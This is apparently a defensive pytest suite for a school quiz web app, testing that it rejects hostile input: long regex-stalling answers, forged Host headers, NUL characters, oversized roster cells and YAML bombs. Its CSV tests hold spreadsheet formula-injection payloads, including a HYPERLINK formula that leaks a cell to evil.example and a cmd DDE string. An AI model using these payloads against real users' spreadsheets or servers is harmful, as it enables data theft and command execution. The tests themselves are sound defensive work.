"""Hostile input over HTTP (issue 10): long answers, forged Host headers, control characters, spreadsheet formulas,
oversized roster cells and YAML bombs each get a clear answer, never a 500, on SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import inspect
import io
import re
import time
from email import message_from_bytes
from pathlib import Path

import pytest
from sqlalchemy import func, select

import app as app_package
from app import create_app
from app.content.located_yaml import MAX_DEPTH, load_mapping
from app.downloads import safe_cell
from app.extensions import db
from app.forms import OndoForm
from app.models import Role, SchoolClass, User
from app.quizzes import Quiz, field_names
from app.quizzes.text import MAX_ANSWER_LENGTH
from app.services import classes
from tests.conftest import CSRF_RE, PASSWORD, make_user
from tests.test_quiz_flow import _answers, _attempt, _start

APP_DIR = Path(app_package.__file__).resolve().parent


def _login(client, user) -> None:
    client.post("/auth/login", data={"email": user.email, "password": PASSWORD})


def _teacher_class(app):
    teacher = make_user(Role.TEACHER)
    with app.app_context():
        school_class = classes.create_class(db.session.get(User, teacher.id), name="10-3 Science",
                                            school="Pohang High", term="2026")
        return teacher, school_class.id, school_class.join_code


def _numeric_field(app, url: str) -> str:
    quiz = Quiz.from_dict(_attempt(app, url).quiz_snapshot)
    question = next(q for q in quiz.questions if q.type == "numeric")
    return field_names(quiz)[question.id]


# Finding 1: answers that stall the server -------------------------------------------------------------------

def test_a_hostile_numeric_answer_is_answered_at_once_with_a_clear_message(app, client, login_as, sample_course):
    login_as("student")
    url = _start(client)
    data = _answers(_attempt(app, url))
    data[_numeric_field(app, url)] = "-" + " " * 30_000 + "a"  # 16 s of regex backtracking before the fix
    started = time.perf_counter()
    response = client.post(url, data=data)
    elapsed = time.perf_counter() - started
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and elapsed < 2, elapsed
    assert f"Keep the answer under {MAX_ANSWER_LENGTH} characters." in page
    assert _attempt(app, url).status != "submitted"  # not graded; the student can shorten it and send again
    assert f'maxlength="{MAX_ANSWER_LENGTH}"' in page


def test_an_answer_at_the_length_limit_is_still_graded(app, client, login_as, sample_course):
    login_as("student")
    url = _start(client)
    data = _answers(_attempt(app, url))
    data[_numeric_field(app, url)] = "-" + " " * (MAX_ANSWER_LENGTH - 2) + "a"
    assert client.post(url, data=data).status_code in (302, 303)
    assert _attempt(app, url).status == "submitted"


def test_form_size_limits_are_set_on_purpose(app, client, login_as):
    assert app.config["MAX_CONTENT_LENGTH"] == 8 * 1024 * 1024
    assert app.config["MAX_FORM_MEMORY_SIZE"] == 64 * 1024
    assert app.config["MAX_FORM_PARTS"] == 50
    teacher = login_as("teacher")
    assert teacher
    many_parts = {f"field{i}": "x" for i in range(60)}
    response = client.post("/teach/classes/new", data=many_parts, content_type="multipart/form-data")
    assert response.status_code == 413
    big_text = {"name": "x" * (65 * 1024)}
    response = client.post("/teach/classes/new", data=big_text, content_type="multipart/form-data")
    assert response.status_code == 413
    assert "Something went wrong" not in response.get_data(as_text=True)


# Finding 2: links in mail follow the configuration, not the Host header ---------------------------------------

def test_reset_link_uses_the_public_base_url_whatever_the_host_header(app, client, outbox, monkeypatch):
    monkeypatch.setitem(app.config, "PUBLIC_BASE_URL", "https://ondo.school.example")
    user = make_user()
    evil = "http://evil.example"
    token = CSRF_RE.search(client.get("/auth/forgot", base_url=evil).get_data(as_text=True)).group(1)
    response = client.post("/auth/forgot", data={"email": user.email, "csrf_token": token}, base_url=evil)
    assert response.status_code in (302, 303)
    (message,) = outbox.glob("*.eml")
    body = message_from_bytes(message.read_bytes()).get_payload(decode=True).decode()
    assert "evil.example" not in body
    assert re.search(r"https://ondo\.school\.example/auth/reset/\S+", body)


def _production(**overrides):
    settings = {"SECRET_KEY": "x" * 40, "SQLALCHEMY_DATABASE_URI": "sqlite://",
                "PUBLIC_BASE_URL": "https://ondo.school.example", **overrides}
    return create_app("production", **settings)


def test_production_answers_only_to_its_public_host():
    client = _production().test_client()
    assert client.get("/auth/login", headers={"Host": "evil.example"}).status_code == 400
    assert client.get("/auth/login", base_url="https://ondo.school.example").status_code == 200


def test_production_needs_a_public_base_url():
    with pytest.raises(RuntimeError, match="PUBLIC_BASE_URL"):
        _production(PUBLIC_BASE_URL="")
    app = _production(TRUSTED_HOSTS=["ondo.internal"])
    assert app.config["TRUSTED_HOSTS"] == ["ondo.school.example", "ondo.internal"]


# Finding 5: control characters --------------------------------------------------------------------------------

def test_nul_in_the_login_email_is_a_form_error_not_a_500(client):
    response = client.post("/auth/login", data={"email": "a\x00b@school.example", "password": "whatever"})
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Remove the invisible control characters (such as NUL) from this field." in page


def test_nul_in_a_registered_name_creates_no_account(app, client):
    response = client.post("/auth/register", data={"name": "A\x00B", "email": "nul@school.example",
                                                   "password": "a long enough passphrase",
                                                   "confirm": "a long enough passphrase"})
    assert response.status_code == 200
    assert "Remove the invisible control characters" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(User)) == 0


def test_nul_in_a_class_name_keeps_the_form(client, login_as):
    login_as("teacher")
    response = client.post("/teach/classes/new", data={"name": "10-3\x00", "school": "", "term": "",
                                                       "timezone": "Asia/Seoul"})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "Remove the invisible control characters" in page


def test_nul_in_a_quiz_answer_is_a_form_error(app, client, login_as, sample_course):
    login_as("student")
    url = _start(client)
    data = _answers(_attempt(app, url))
    data[_numeric_field(app, url)] = "15\x00"
    response = client.post(url, data=data)
    assert response.status_code == 200
    assert "Remove the invisible control characters" in response.get_data(as_text=True)
    assert _attempt(app, url).status != "submitted"


def test_nul_in_a_roster_row_is_reported_and_nothing_is_created(app, client):
    owner, class_id, _code = _teacher_class(app)
    _login(client, owner)
    roster = "name,student number\n김민지,20301\nA\x00B,20302\n"
    page = client.post(f"/teach/classes/{class_id}/roster",
                       data={"roster": (io.BytesIO(roster.encode()), "c.csv")},
                       content_type="multipart/form-data").get_data(as_text=True)
    assert "Row 3:" in page and "invisible control characters" in page
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(User).where(User.username.is_not(None))) == 0


@pytest.mark.parametrize("path", ["/courses/a%00b", "/admin/users?q=a%00b", "/courses?x=%07"])
def test_nul_in_an_address_is_a_bad_request(client, login_as, path):
    login_as("admin")
    assert client.get(path).status_code == 400


def test_every_form_in_the_app_refuses_control_characters():
    """All forms derive from OndoForm, where the rule lives; a new FlaskForm subclass would skip it."""
    offenders = [str(path.relative_to(APP_DIR)) for path in APP_DIR.rglob("*.py")
                 if path != APP_DIR / "forms.py"
                 and re.search(r"\(FlaskForm\)|base=FlaskForm", path.read_text(encoding="utf-8"))]
    assert offenders == []
    assert "no_control_characters" in inspect.getsource(OndoForm)


# Finding 6: CSV exports -------------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd", "'-2+3+cmd"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("-3.5", "-3.5"),
    ("+12", "+12"),
    (-3, -3),
    (87.5, 87.5),
    ("김민지", "김민지"),
    ("", ""),
])
def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay(value, expected):
    assert safe_cell(value) == expected


def test_gradebook_csv_carries_no_live_formula(app, client, sample_course):
    from tests.test_classes import _assign, _submit_quiz

    owner, class_id, code = _teacher_class(app)
    evil = make_user(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    with app.app_context():
        classes.join_with_code(db.session.get(User, evil.id), code)
    _assign(app, class_id, "quiz", None)
    _submit_quiz(app, client, evil, right=True)
    _login(client, owner)
    export = client.get(f"/teach/classes/{class_id}/gradebook.csv")
    table = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"))))
    assert table[1][0] == "'" + evil.name
    assert table[1][-1] in ("100.0", "100")  # numbers stay numbers


def test_every_csv_export_goes_through_the_one_helper():
    writers = [str(path.relative_to(APP_DIR)) for path in APP_DIR.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text(encoding="utf-8"))]
    assert writers == ["downloads.py"]


# Finding 9: roster field limit, YAML depth and aliases ---------------------------------------------------------

def test_a_roster_cell_over_the_csv_field_limit_is_a_clear_error(app, client):
    owner, class_id, _code = _teacher_class(app)
    _login(client, owner)
    roster = "name,student number\n" + "x" * 140_000 + ",1\n"
    response = client.post(f"/teach/classes/{class_id}/roster",
                           data={"roster": (io.BytesIO(roster.encode()), "c.csv")},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Nothing was created" in page and "longer than 131,072 characters" in page


def test_deeply_nested_front_matter_is_a_lint_error_with_its_line():
    text = "title: x\nnested: " + "[" * 500 + "]" * 500 + "\n"
    fields, problems = load_mapping(text, path="m.md", first_line=2)
    assert fields is None
    assert [(p.path, p.line) for p in problems] == [("m.md", 3)]
    assert f"nested more than {MAX_DEPTH} levels" in problems[0].message


def test_yaml_aliases_are_refused_before_they_expand():
    bomb = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))
    started = time.perf_counter()
    fields, problems = load_mapping(bomb, path="m.md", first_line=2)
    assert time.perf_counter() - started < 0.5
    assert fields is None and problems[0].line == 3
    assert "aliases (*a) are not allowed" in problems[0].message


def test_editor_preview_of_hostile_front_matter_shows_lint_errors_not_a_500(app, client, login_as, sample_course):
    login_as("admin")
    edit = "/admin/courses/sample/modules/reading/en"
    for front in ("title: x\nnested: " + "[" * 500 + "]" * 500, "title: " + "1" * 10_000,
                  'a: &a ["x","x"]\nb: [*a, *a]'):
        source = f"---\n{front}\n---\n# Reading\n\nText.\n"
        response = client.post(edit, data={"source": source, "preview": "Preview"})
        assert response.status_code == 200, front[:30]
        page = response.get_data(as_text=True)
        assert "No errors." not in page and "line" in page.lower()



# Finding 10: what a teacher sees of a shared student; no caching of pages with forms --------------------------

def test_a_teacher_sees_only_the_attempts_at_their_own_classes_modules(app, client, sample_course):
    from tests.test_classes import _assign, _submit_quiz

    teacher_a, class_a, code_a = _teacher_class(app)
    teacher_b, class_b, code_b = _teacher_class(app)
    shared = make_user(name="Shared Student")
    with app.app_context():
        classes.join_with_code(db.session.get(User, shared.id), code_a)
        classes.join_with_code(db.session.get(User, shared.id), code_b)
    _assign(app, class_b, "quiz", None)  # only class B was given the quiz
    _submit_quiz(app, client, shared, right=True)
    _login(client, teacher_a)
    page_a = client.get(f"/teach/classes/{class_a}/students/{shared.id}").get_data(as_text=True)
    assert "Shared Student" in page_a and "Water vapour" not in page_a and "100%" not in page_a
    assert "No quiz attempts at this class" in page_a
    client.post("/auth/logout")
    _login(client, teacher_b)
    page_b = client.get(f"/teach/classes/{class_b}/students/{shared.id}").get_data(as_text=True)
    assert "Water vapour" in page_b and "100%" in page_b


def test_a_course_assignment_covers_its_modules_for_the_teacher(app, client, sample_course):
    from tests.test_classes import _submit_quiz

    teacher, class_id, code = _teacher_class(app)
    student = make_user(name="Course Student")
    with app.app_context():
        from app.models import Course
        from app.services import assignments

        classes.join_with_code(db.session.get(User, student.id), code)
        course = db.session.scalar(select(Course).where(Course.slug == "sample"))
        assignments.assign(db.session.get(SchoolClass, class_id), module_id=None, course_id=course.id, due_at=None,
                           note="", by=db.session.get(User, teacher.id))
    _submit_quiz(app, client, student, right=True)
    _login(client, teacher)
    assert "100%" in client.get(f"/teach/classes/{class_id}/students/{student.id}").get_data(as_text=True)


@pytest.mark.parametrize("path", ["/auth/login", "/auth/register", "/auth/forgot", "/"])
def test_anonymous_pages_with_a_form_are_not_stored(client, path):
    response = client.get(path)
    assert response.status_code == 200 and b"<form" in response.data
    assert response.headers["Cache-Control"] == "no-store"


def test_static_files_may_still_be_cached(client):
    response = client.get("/static/ondo.css")
    assert "no-store" not in response.headers.get("Cache-Control", "")
    response.close()
